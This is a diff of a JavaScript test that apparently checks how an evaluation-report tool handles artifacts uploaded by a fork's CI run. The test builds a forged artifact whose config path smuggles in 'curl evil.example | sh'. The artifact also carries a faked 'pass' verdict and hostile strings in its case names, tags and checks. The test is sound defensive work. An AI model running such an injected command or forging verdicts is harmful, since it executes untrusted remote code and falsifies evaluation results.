@@ -143,10 +143,10 @@ describe('what a run of a fork has uploaded', () => {
     const forged = JSON.parse(stored.broken);
     forged.config.path = 'agent-eval.yml; curl evil.example | sh';
     forged.verdict = 'pass';
-    for (const one of forged.cases) {
-      one.name = HOSTILE;
-      one.tags = [HOSTILE.slice(0, 60)];
-      for (const trial of one.trials)
+    for (const record of forged.cases) {
+      record.name = HOSTILE;
+      record.tags = [HOSTILE.slice(0, 60)];
+      for (const trial of record.trials)
         for (const check of trial.checks) Object.assign(check, { fact: saying(HOSTILE), name: HOSTILE.slice(0, 40) });
     }
     const result = await report(scene, await pullOfFork(scene, JSON.stringify(forged)));
